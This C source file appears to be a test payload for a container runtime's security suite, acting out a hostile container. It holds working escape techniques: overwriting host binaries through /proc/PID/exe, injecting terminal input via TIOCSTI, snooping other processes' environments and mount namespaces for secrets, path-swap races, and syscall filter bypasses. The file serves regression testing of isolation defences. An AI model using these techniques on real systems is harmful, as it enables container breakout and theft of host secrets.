/*
 * What a hostile container, or a process that shares a volume with one, does to its runtime.
 * Static, like the probe, so that it runs in any rootfs.  It prints what it got; the tests decide
 * whether it should have.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/nsfs.h>
#include <sched.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define ARRAY_SIZE(a) (sizeof(a) / sizeof(*(a)))

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void print_file(int dir, const char *name, const char *how)
{
	char text[256];
	int fd = openat(dir, name, O_RDONLY | O_CLOEXEC | O_NONBLOCK);

	if (fd < 0)
		return;
	ssize_t n = read(fd, text, sizeof(text) - 1);

	close(fd);
	if (n > 0)
		printf("reached %s: %.*s\n", how, (int)n, text);
}

/* T2: exchanges two paths until it is killed. */
static int run_exchange(char **argv)
{
	while (true)
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2);
	return 0;
}

/* Where am I really?  CANARY is an absolute path of the host, tried from here and every directory
 * above. */
static int run_walk(char **argv)
{
	char cwd[4096] = "";
	long n = syscall(SYS_getcwd, cwd, sizeof(cwd));
	int at = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);

	printf("cwd %s\n", n > 0 ? cwd : strerror(errno));
	print_file(AT_FDCWD, "secret", "the working directory");
	for (int i = 0; i < 40 && at >= 0; i++) {
		int up = openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);

		print_file(at, argv[0] + 1, "a directory above");
		close(at);
		at = up;
	}
	return 0;
}

static void grab_one(int dir, const char *how)
{
	static const char *const tails[] = { "secret", "../secret", "canary/secret" };

	for (size_t i = 0; i < ARRAY_SIZE(tails); i++)
		print_file(dir, tails[i], how);
}

/* The file NAME of PID as a text, its NULs as line ends; false when it is not there. */
static bool read_of(const char *pid, const char *name, char *text, size_t size)
{
	char path[300];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return false;
	n = read(fd, text, size - 1);
	close(fd);
	for (ssize_t i = 0; i < n; i++)
		if (text[i] == '\0')
			text[i] = '\n';
	text[n > 0 ? n : 0] = '\0';
	return n > 0;
}

static unsigned long long capabilities_of(const char *pid)
{
	char text[4096];
	const char *at =
	    read_of(pid, "status", text, sizeof(text)) ? strstr(text, "CapPrm:") : NULL;

	return at ? strtoull(at + 7, NULL, 16) : 0;
}

/*
 * Whether we may trace PID, and its rights count where ours do.  Rights in a user namespace below
 * ours are worth nothing: we have them all there.
 */
static bool is_over_us(const char *pid)
{
	char path[300];
	struct stat ours, theirs;

	snprintf(path, sizeof(path), "/proc/%s/ns/user", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || stat("/proc/self/ns/user", &ours) < 0 || fstat(fd, &theirs) < 0)
		return false;
	if (theirs.st_ino == ours.st_ino)
		return close(fd) == 0;
	while (fd >= 0 && fstat(fd, &theirs) == 0 && theirs.st_ino != ours.st_ino) {
		int parent = ioctl(fd, NS_GET_PARENT);

		close(fd);
		fd = parent;
	}
	/* The walk ends beyond what we may see, or at our own. */
	return fd < 0 || close(fd) < 0;
}

/* What a tracer would have of it beyond files: its rights, its caller's environment, its mounts. */
static void snoop_rights(const char *pid, const char *canary)
{
	static unsigned long long own;
	char text[8192], path[300];

	if (!own)
		own = capabilities_of("self");

	unsigned long long more = capabilities_of(pid) & ~own;

	if (more && is_over_us(pid))
		printf("reached rights that we do not have: %llx\n", more);
	if (read_of(pid, "environ", text, sizeof(text)) && strstr(text, "HOSTSECRET="))
		printf("reached the environment of the caller: %s\n", strstr(text, "HOSTSECRET="));

	snprintf(path, sizeof(path), "/proc/%s/ns/mnt", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	pid_t child = fd < 0 ? -1 : fork();

	if (child == 0) {
		if (setns(fd, CLONE_NEWNS) == 0)
			print_file(AT_FDCWD, canary, path);
		fflush(stdout);
		_exit(0);
	}
	if (child > 0)
		waitpid(child, NULL, 0);
	close(fd);
}

static void snoop_process(const char *pid, const char *canary)
{
	char path[300];
	struct dirent *entry;

	snoop_rights(pid, canary);
	for (size_t i = 0; i < 2; i++) {
		snprintf(path, sizeof(path), "/proc/%s/%s", pid, i ? "root" : "cwd");
		int dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);

		if (dir < 0)
			continue;
		grab_one(dir, path);
		print_file(dir, canary + 1, path);
		close(dir);
	}
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	DIR *list = opendir(path);

	while (list && (entry = readdir(list))) {
		int fd = openat(dirfd(list), entry->d_name, O_PATH | O_CLOEXEC);
		struct stat st;

		if (fd < 0 || entry->d_name[0] == '.' || fstat(fd, &st) < 0) {
			close(fd);
			continue;
		}
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		if (S_ISDIR(st.st_mode)) {
			grab_one(fd, path);
			print_file(fd, canary + 1, path);
		}
		close(fd);
	}
	if (list)
		closedir(list);
}

/* T6: looks through every process that can be seen for a way to CANARY, so many seconds. */
static int run_snoop(char **argv)
{
	double end = now() + strtod(argv[1], NULL);
	char own[32];

	snprintf(own, sizeof(own), "%d", getpid());
	puts("ready");
	fflush(stdout);
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		fflush(stdout);
		while (proc && (entry = readdir(proc)))
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
			    strcmp(entry->d_name, own) != 0)
				snoop_process(entry->d_name, argv[0]);
		if (proc)
			closedir(proc);
	}
	fflush(stdout);
	return 0;
}

/* What can be done to a file that only a magic link or an O_PATH descriptor names. */
static void overwrite(int fd)
{
	char path[64];
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
	if (chmod(path, 04777) == 0)
		puts("chmod");
	if (truncate(path, 4096) == 0)
		puts("truncated");

	int writer = open(path, O_WRONLY | O_CLOEXEC);

	if (writer >= 0 && write(writer, "#!/bin/evil\n", 12) > 0)
		puts("written");
	close(writer);

	int tree = (int)syscall(SYS_open_tree, fd, "",
				AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC);

	if (tree >= 0) {
		syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr));
		snprintf(path, sizeof(path), "/proc/self/fd/%d", tree);
		writer = open(path, O_WRONLY | O_CLOEXEC);
		if (writer >= 0 && write(writer, "#!/bin/evil\n", 12) > 0)
			puts("written through a clone");
		close(writer);
	}
	close(tree);
}

/* T5: keeps what /proc/PID/exe of others is for so many seconds, and overwrites it at once and in
 * the end. */
static int run_grab(char **argv)
{
	double end = now() + strtod(argv[0], NULL);
	struct stat own, st;
	int kept[64], n = 0;

	stat("/proc/self/exe", &own);
	puts("ready");
	fflush(stdout);
	while (now() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		char path[300];

		while (proc && (entry = readdir(proc))) {
			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			int fd = open(path, O_PATH | O_CLOEXEC);

			if (fd < 0 || fstat(fd, &st) < 0 || st.st_dev == own.st_dev || n == 64) {
				close(fd);
				continue;
			}
			overwrite(fd);
			kept[n++] = fd;
		}
		if (proc)
			closedir(proc);
	}
	printf("grabbed %d\n", n);
	for (int i = 0; i < n; i++)
		overwrite(kept[i]);
	fflush(stdout);
	return 0;
}

/* CVE-2016-10124, CVE-2017-5226: puts a line into the input queue of whoever shares our terminal.
 */
static int run_inject(char **argv)
{
	static const char line[] = "injected\n";

	(void)argv;
	for (int fd = 0; fd < 4; fd++) {
		int at = fd < 3 ? fd : open("/dev/tty", O_RDWR | O_CLOEXEC);
		char linux_paste[] = { 3 };

		for (const char *c = line; *c && at >= 0; c++)
			if (ioctl(at, TIOCSTI, c) == 0 && c == line)
				printf("TIOCSTI on %d\n", fd);
		if (at >= 0 && ioctl(at, TIOCLINUX, linux_paste) == 0)
			printf("TIOCLINUX on %d\n", fd);
		if (fd == 3 && at >= 0)
			puts("/dev/tty opens");
	}
	fflush(stdout);
	return 0;
}

/* Tries whatever could make `/` or a mount writable again. */
static int run_writable(char **argv)
{
	for (; *argv; argv++) {
		char path[512];

		snprintf(path, sizeof(path), "%s/creel-was-here", *argv);
		int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);

		printf("%s %s\n", *argv, fd >= 0 ? "writable" : strerror(errno));
		close(fd);
	}
	fflush(stdout);
	return 0;
}

static long int80(long nr, long a, long b, long c)
{
	long result = -ENOSYS;

#ifdef __x86_64__
	__asm__ volatile("int $0x80"
			 : "=a"(result)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
#else
	(void)nr, (void)a, (void)b, (void)c;
#endif
	return result;
}

/* Memory that a 32-bit system call can name. */
static unsigned int *low_memory(void)
{
	void *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	return page == MAP_FAILED ? NULL : page;
}

/* SECURITY B-15: the same socket(AF_NETLINK) by every door of this architecture. */
static int run_doors(char **argv)
{
	unsigned int *words = low_memory();

	(void)argv;
	printf("socket %ld\n", syscall(SYS_socket, 16, 3, 0));
	printf("x32 %ld\n", syscall(0x40000000 | SYS_socket, 16, 3, 0));
	if (words) {
		words[0] = 16, words[1] = 3, words[2] = 0;
		printf("socketcall %ld\n", int80(102, 1, (long)(unsigned long)words, 0));
	}
	printf("i386 socket %ld\n", int80(359, 16, 3, 0));
	fflush(stdout);
	return 0;
}

static const struct {
	const char *name;
	int (*run)(char **argv);
} commands[] = {
	{ "exchange", run_exchange }, { "walk", run_walk },	{ "snoop", run_snoop },
	{ "grab", run_grab },	      { "inject", run_inject }, { "writable", run_writable },
	{ "doors", run_doors },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < ARRAY_SIZE(commands); i++)
		if (strcmp(argv[1], commands[i].name) == 0)
			return commands[i].run(argv + 2);
	fprintf(stderr, "payload: no such command\n");
	return 2;
}
